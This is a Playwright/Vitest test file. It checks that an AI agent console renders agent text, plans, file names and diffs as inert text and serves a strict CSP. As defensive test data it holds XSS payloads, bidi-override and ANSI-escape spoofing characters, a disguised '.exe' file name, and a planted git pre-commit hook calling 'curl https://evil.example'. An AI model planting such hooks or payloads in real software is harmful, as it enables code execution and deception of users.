import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { makeProductPlace, type Product, startProduct, verifies } from '@clawhold/testkit';
import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { openConsole, operatorOf, startBrowser } from './browser.ts';

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

const resources = new AsyncDisposableStack();
const task = `<script>alert("task")</script>\u202E\u001B[31m ${'A'.repeat(90_000)}`;
let product: Product;
let browser: Browser;
let run = '';

beforeAll(async () => {
  const place = resources.use(await makeProductPlace());
  await place.configure({
    'scenarios/hostile.yaml': await readFile(join(import.meta.dirname, 'hostile.yaml'), 'utf8'),
  });
  product = resources.use(await startProduct(place));
  browser = resources.use(await startBrowser());
  const folder = join(place.folder, 'work');
  await mkdir(folder);
  const body = { task, folder, agent: 'default', model: 'rehearsal/hostile' };
  run = (await operatorOf(product).POST('/runs', { body })).data?.id ?? '';
});
afterAll(() => resources.disposeAsync());

/** What would be wrong with the page if any of it had been taken for more than text. */
async function intrusions(page: Page): Promise<readonly string[]> {
  return page.evaluate(() => {
    // As it is drawn: what is folded away or for nobody to see does not count.
    // biome-ignore lint/performance/useDomNodeTextContent: the drawn text is the question
    const shown = document.body.innerText;
    const own = new Set([location.origin]);
    const foreign = [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].filter(
      (link) => !own.has(new URL(link.href).origin),
    );
    const alien = document.querySelectorAll(
      'main script, main iframe, main svg, main img, main b, [onerror], [onload], [srcdoc], [style]',
    );
    const hidden = /[\p{Cc}\p{Cf}]/u.exec(shown.replaceAll(/[\n\t]/g, ''));
    return [
      ...foreign.map((link) => `link ${link.href}`),
      ...[...alien].map((element) => `element ${element.outerHTML.slice(0, 100)}`),
      ...(hidden === null ? [] : [`character ${hidden[0].codePointAt(0)?.toString(16)}`]),
      ...(document.documentElement.scrollWidth > innerWidth ? ['the page is wider than its window'] : []),
      ...(shown.length > 400_000 ? ['the page is longer than a person reads'] : []),
    ];
  });
}

/** How many colours a canvas shows; an empty one has one. */
async function colours(canvas: Locator): Promise<number> {
  return canvas.evaluate((element: HTMLCanvasElement) => {
    const { data } = element.getContext('2d')?.getImageData(0, 0, element.width, element.height) ?? { data: [] };
    return new Set(new Uint32Array(Uint8ClampedArray.from(data).buffer)).size;
  });
}

test(verifies('console.hostile-text', 'words, output, plan, task and result of an agent are inert text'), async () => {
  const { page, complaints } = await openConsole(browser, product);
  await page.goto(`${product.url}/runs/${run}`);
  await page.getByText('finished⟨U+202E⟩').first().waitFor();
  expect(await page.getByRole('heading', { level: 1 }).textContent()).toContain(
    '<script>alert("task")</script>⟨U+202E⟩⟨U+001B⟩[31m AAAA',
  );
  await page.getByText(`<script>alert('said')</script>`).first().waitFor();
  await page.getByText('⟨U+27E8⟩').first().waitFor();
  expect(await page.getByRole('region', { name: 'Plan' }).textContent()).toContain("<img src=x onerror=alert('plan')>");
  await page.locator('summary').filter({ hasText: 'shell.exec' }).first().click();
  await page.getByText('⟨U+001B⟩[2J').first().waitFor();
  expect(await intrusions(page)).toEqual([]);
  // However much is asked for, it comes in pieces.
  await page.getByRole('heading', { level: 1 }).getByRole('button').click();
  expect((await page.getByRole('heading', { level: 1 }).textContent())?.length).toBeLessThan(21_000);
  await page.goto(product.url);
  await page.locator(`a[href="/runs/${run}"]`).waitFor();
  expect(await intrusions(page)).toEqual([]);
  expect(complaints).toEqual([]);
});

test(
  verifies('console.hostile-text', 'names and contents of files are inert text, and what would be run comes first'),
  async () => {
    const { page, complaints } = await openConsole(browser, product);
    await page.goto(`${product.url}/runs/${run}?view=changes`);
    const files = page.getByRole('list', { name: 'Files' }).locator('> li');
    await files.first().waitFor();
    expect(await files.first().textContent()).toContain('.git/hooks/pre-commit');
    await files.first().getByText('curl https://evil.example').waitFor();
    await page.getByText('would be run by your own tools without anybody asking them to').waitFor();
    await page.getByText('would be run by your own tools (scripts, hooks, CI)').waitFor();
    await page.getByText('<img src=x onerror=alert("name")>.html').waitFor();
    await page.getByText('invoice⟨U+202E⟩fdp.exe').waitFor();
    for (const name of ['onerror', 'long-line.txt', 'many-lines.txt'])
      await files.filter({ hasText: name }).getByRole('button', { name: 'Show the difference' }).click();
    await files.getByText('<script>alert("name")</script>').waitFor();
    await files.getByRole('button', { name: /^show more \(.*characters left\)$/ }).waitFor();
    await page.getByRole('button', { name: /^show more \(.*lines left\)$/ }).waitFor();
    expect(await intrusions(page)).toEqual([]);
    await page.goto(`${product.url}/ledger`);
    await page.getByRole('cell', { name: 'run.started' }).or(page.getByRole('cell').nth(5)).first().waitFor();
    expect(await intrusions(page)).toEqual([]);
    expect(complaints).toEqual([]);
  },
);

test(verifies('browser.pictures', 'what a page looked like is drawn beside its step'), async () => {
  const { page, complaints } = await openConsole(browser, product);
  await page.goto(`${product.url}/runs/${run}`);
  await page.getByText('finished⟨U+202E⟩').first().waitFor();
  const picture = page.getByRole('img', { name: 'The page in the browser after this step' }).first();
  await vi.waitFor(async () => expect(await colours(picture)).toBeGreaterThan(1), { timeout: 60_000 });
  expect(await intrusions(page)).toEqual([]);
  expect(complaints).toEqual([]);
});

test(verifies('console.hostile-text', 'nothing of a page is drawn over the frame of the console'), async () => {
  const { page } = await openConsole(browser, product, { viewport: { width: 390, height: 700 } });
  await page.goto(`${product.url}/runs/${run}`);
  await page.getByText('finished⟨U+202E⟩').first().waitFor();
  await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
  const covered = await page.evaluate(() => {
    const frame = document.querySelector('header');
    const { width, height } = frame?.getBoundingClientRect() ?? { width: 0, height: 0 };
    const points = [0.05, 0.35, 0.65, 0.95].flatMap((x) => [0.2, 0.8].map((y) => [x * width, y * height] as const));
    return points.filter(([x, y]) => frame?.contains(document.elementFromPoint(x, y)) !== true);
  });
  expect(covered).toEqual([]);
});

test(verifies('console.strict-policy', 'the page is served under a policy that leaves scripts no way in'), async () => {
  const answer = await fetch(product.url);
  const policy = answer.headers.get('content-security-policy') ?? '';
  for (const directive of [
    "default-src 'none'",
    "script-src 'self'",
    "style-src 'self'",
    "require-trusted-types-for 'script'",
    "frame-ancestors 'none'",
  ])
    expect(policy.split('; ')).toContain(directive);
  expect(await answer.text()).not.toMatch(/<style|\sstyle=|\son[a-z]+=|<script(?![^>]*src=)/);
  const { page } = await openConsole(browser, product);
  const refused = await page.evaluate(() => {
    try {
      document.body.innerHTML = '<b>in</b>';
      return 'written';
    } catch (error) {
      return error instanceof TypeError ? 'refused' : 'failed';
    }
  });
  expect(refused).toBe('refused');
});
